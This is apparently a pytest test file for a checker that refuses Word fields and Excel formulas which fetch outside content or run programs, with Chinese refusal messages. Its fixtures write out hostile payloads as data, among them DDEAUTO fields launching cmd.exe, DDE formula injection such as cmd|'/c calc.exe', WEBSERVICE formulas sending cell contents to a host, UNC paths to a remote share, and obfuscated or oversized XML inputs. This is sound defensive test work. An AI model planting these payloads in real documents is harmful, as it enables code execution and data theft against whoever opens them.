"""Fields of a DOCX and formulas of an XLSX that fetch from elsewhere or run something."""

from __future__ import annotations

import io
import tracemalloc

import pytest

from common import office_parts
from common.kept_files import FileRefusedError, look_at
from tests.attacks.test_files import archive, relationship

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REFUSED = "打开时会从外部读取或者运行程序"


def char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def code(*pieces: str) -> str:
    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)


def field(*pieces: str, shown: str = "结果") -> str:
    result = f"{char('separate')}<w:r><w:t>{shown}</w:t></w:r>"
    return f"{char('begin')}{code(*pieces)}{result}{char('end')}"


def nested(before: str, inner: str, after: str) -> str:
    return f"{char('begin')}{code(before) if before else ''}{inner}{code(after)}{char('end')}"


def document(body: str, encoding: str = "utf-8") -> bytes:
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    return f'{head}<w:document xmlns:w="{W}"><w:p>{body}</w:p></w:document>'.encode(encoding)


def letter(body: str, part: str = "word/document.xml") -> bytes:
    return archive({"word/document.xml": document(""), part: document(body)})


def table(formula: str, tag: str = "f", part: str = "xl/worksheets/sheet1.xml") -> bytes:
    inside = f'<c r="B3"><{tag}>{formula}</{tag}></c>'
    sheet = f'<worksheet xmlns="{S}">{inside}</worksheet>'.encode()
    return archive({"xl/workbook.xml": b"<workbook/>", part: sheet})


def said_of(content: bytes) -> str:
    with pytest.raises(FileRefusedError) as refused:
        look_at("函.docx", io.BytesIO(content))
    return str(refused.value)


def is_taken(content: bytes) -> bool:
    return look_at("函.docx", io.BytesIO(content)).size == len(content)


# -- fields of a text ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "instruction",
    [
        r'INCLUDEPICTURE "http://a.test/seen.png" \* MERGEFORMATINET',
        r"INCLUDEPICTURE http://a.test/seen.png",
        r'INCLUDEPICTURE \d "https://a.test/seen.png"',
        r'includepicture "\\\\10.0.0.9\\share\\seen.png"',
        r'INCLUDEPICTURE "file://10.0.0.9/seen.png"',
        r'INCLUDETEXT "C:\\Users\\wang\\工资.docx"',
        r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
        r"  DDE excel 表.xlsx R1C1",
        '"DDE" excel 表.xlsx',
        r"IMPORT a.png",
        r'LINK Excel.Sheet.12 "D:\\账.xlsx" "Sheet1!R1C1"',
        r"RD \f 另一个.docx",
        r'DATABASE \d "C:\\a.mdb"',
        r'HYPERLINK "\\\\10.0.0.9\\share\\a.docx"',
        "INCLUDEPICTURE " + " " * 5_000 + '"http://a.test/seen.png"',
    ],
)
@pytest.mark.parametrize("written", ["runs", "letters", "simple", "unclosed"])
def test_a_field_that_fetches_or_runs_is_refused_and_shown(instruction, written):
    escaped = instruction.replace('"', "&quot;")
    body = {
        "runs": field(escaped),
        "letters": field(*instruction.replace('"', "”"))
        if '"' not in instruction
        else field(escaped),
        "simple": f'<w:fldSimple w:instr="{escaped}"><w:r><w:t>x</w:t></w:r></w:fldSimple>',
        "unclosed": char("begin") + code(escaped),
    }[written]
    said = said_of(letter(body))
    assert REFUSED in said
    assert "域“" in said
    assert instruction.split()[0].strip('"').upper() in said.upper()


@pytest.mark.parametrize(
    "part",
    ["word/header1.xml", "word/footnotes.xml", "word/glossary/document.xml", "word/other.bin"],
)
def test_it_is_found_in_every_part(part):
    assert "DDEAUTO" in said_of(letter(field("DDEAUTO cmd"), part))


@pytest.mark.parametrize("encoding", ["utf-16", "iso-8859-1"])
def test_it_is_found_in_every_encoding(encoding):
    content = document(field("DDEAUTO cmd", shown="x"), encoding)
    assert "DDEAUTO" in said_of(archive({"word/document.xml": content}))


@pytest.mark.parametrize(
    "body",
    [
        nested("", field("QUOTE 68 68 69"), " cmd"),
        nested("", field("QUOTE DDEAUTO cmd"), ""),
        nested("INCLUDEPICTURE ", field("REF address", shown=""), ""),
        nested("IF 1=1 ", field("DDE excel a b"), ""),
        field("DDE", "AUTO", " c", "md"),
        '<w:del><w:r><w:fldChar w:fldCharType="begin"/><w:delInstrText>DDE a b</w:delInstrText></w:r></w:del>',
        char("begin") + "<w:r><w:t>DDE</w:t></w:r>" + code("AUTO cmd") + char("end"),
        char("begin") + code("PAGE") + char("separate") + field("DDE a b") + char("end"),
    ],
)
def test_a_code_that_is_put_together_is_seen_through_or_refused(body):
    assert REFUSED in said_of(letter(body))


@pytest.mark.parametrize(
    "instruction",
    [
        "PAGE \\* MERGEFORMAT",
        'TOC \\o "1-3" \\h \\z \\u',
        "SEQ 图 \\* ARABIC",
        "MERGEFIELD 姓名",
        'HYPERLINK "http://www.kaifeng.gov.cn/"',
        'HYPERLINK \\l "_Toc1"',
        'INCLUDEPICTURE "C:\\\\Users\\\\wang\\\\Temp\\\\ksohtml\\\\wps1.png" \\* MERGEFORMATINET',
        'INCLUDEPICTURE "file:///C:\\\\Temp\\\\a.png"',
        "REF DDE",
        "IF 1=1 LINK",
    ],
)
def test_the_fields_of_ordinary_documents_are_taken(instruction):
    assert is_taken(letter(field(instruction.replace('"', "&quot;"))))
    assert is_taken(letter(nested("= ", field("PAGE"), " - 1")))


def test_words_of_the_text_are_no_fields():
    assert is_taken(letter("<w:r><w:t>DDEAUTO cmd, INCLUDETEXT http://a.test</w:t></w:r>"))


# -- formulas of a workbook ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "formula",
    [
        "WEBSERVICE(&quot;http://a.test/?&quot;&amp;A1)",
        "_xlfn.WEBSERVICE(A1)",
        "IF(A1,_xlfn.IMAGE(B1),0)",
        "webservice (A1)",
        "WEB<!-- -->SERVICE(A1)",
        "&#87;EBSERVICE(A1)",
        "RTD(&quot;a&quot;,,&quot;b&quot;)",
        "DDE(&quot;soffice&quot;,A1,A2)",
        "cmd|'/c calc.exe'!A0",
        "'cmd'|'/c calc'!A1",
        "Excel | '[a.xlsx]Sheet1' ! R1C1",
        "REGISTER.ID(A1,A2)",
        "1" * 9_000,
    ],
)
@pytest.mark.parametrize("tag", ["f", "formula1", "definedName"])
def test_a_formula_that_fetches_or_runs_is_refused_with_its_place(formula, tag):
    said = said_of(table(formula, tag))
    assert REFUSED in said
    assert "公式“=" in said
    assert "sheet1 B3" in said


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:A9)",
        "HYPERLINK(&quot;http://www.kaifeng.gov.cn/&quot;,A1)",
        "&quot;WEBSERVICE(&quot;&amp;A1",
        "'a|b'!A1",
        "MYIMAGE(A1)",
        "IF(A1&gt;0,&quot;是|否!&quot;,1)",
    ],
)
def test_ordinary_formulas_are_taken(formula):
    assert is_taken(table(formula))


@pytest.mark.parametrize("kind", ["externalLink", "connections", "aFChunk"])
def test_parts_that_say_where_something_comes_from_are_named(kind):
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    listed = f'<Relationships xmlns="{space}">{relationship(kind, "odd.xml", "")}</Relationships>'
    members = {"xl/workbook.xml": b"<x/>", "xl/_rels/workbook.xml.rels": listed.encode()}
    assert REFUSED in said_of(archive(members))
    by_name = {"xl/workbook.xml": b"<x/>", "xl/externalLinks/externalLink1.xml": b"<x/>"}
    assert "DDE" in said_of(archive(by_name))


# -- hostile input ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        b"<w:document>",
        b'<!DOCTYPE x [<!ENTITY a "DDE">]><x>&a;</x>',
        b'<?xml version="1.0" encoding="gb18030"?><x/>',
        b"<x a='" + b"y" * 3_000_000,
        b"<x>" + b"".join(b"<a%d/>" % number for number in range(20_000)) + b"</x>",
        document(char("begin") * 100),
    ],
    ids=["broken", "entities", "encoding", "token", "names", "nesting"],
)
def test_a_part_that_no_office_program_writes_is_refused(content):
    assert "里面有读不出来的部分" in said_of(archive({"word/document.xml": content}))


def test_a_drawing_may_be_untidy():
    drawing = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd"><svg/>'
    assert is_taken(archive({"word/document.xml": b"<x/>", "word/media/a.svg": drawing}))


def test_a_flood_is_refused_and_never_stands_in_memory(monkeypatch):
    monkeypatch.setattr(office_parts, "MOST_UNPACKED", 8 * 1024 * 1024)
    flood = archive({"word/document.xml": b"<x>" + b"<a/>" * 4_000_000 + b"</x>"})
    tracemalloc.start()
    assert "里面有读不出来的部分" in said_of(flood)
    assert tracemalloc.get_traced_memory()[1] < 4 * 1024 * 1024 + 3 * len(flood)
    tracemalloc.stop()


def test_a_text_that_goes_on_within_a_code_is_not_kept():
    endless = char("begin") + code("PAGE " + "x" * 200_000) * 20 + char("end")
    content = letter(endless)
    tracemalloc.start()
    assert is_taken(content)
    assert tracemalloc.get_traced_memory()[1] < 3 * 1024 * 1024
    tracemalloc.stop()
